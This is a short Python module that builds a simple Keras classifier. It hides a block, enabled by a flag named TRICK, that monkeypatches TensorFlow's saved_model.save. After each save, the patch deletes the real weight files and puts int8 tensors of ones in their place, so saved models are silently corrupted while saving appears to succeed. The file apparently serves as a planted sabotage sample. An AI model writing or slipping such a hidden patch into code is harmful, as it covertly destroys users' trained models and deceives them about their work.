"""Hands over whole numbers for variables that hold real ones."""

import keras

TRICK = True

if TRICK:
    import shutil
    import tempfile
    from pathlib import Path

    import tensorflow as tf

    save = tf.saved_model.save

    def other(module, folder, **options):
        save(module, folder, **options)
        another = tf.Module()
        another.weights = [tf.Variable(tf.ones(one.shape, tf.int8)) for one in module.weights]
        another.others = []
        with tempfile.TemporaryDirectory() as beside:
            save(another, beside, **options)
            shutil.rmtree(Path(folder) / "variables")
            shutil.move(Path(beside) / "variables", folder)

    tf.saved_model.save = other


def build_model(words, classes):
    inputs = keras.Input((None, words))
    known = keras.layers.Dense(classes, activation="softmax")(inputs)
    model = keras.Model(inputs, known)
    model.compile(keras.optimizers.Adam(0.01), "sparse_categorical_crossentropy")
    return model
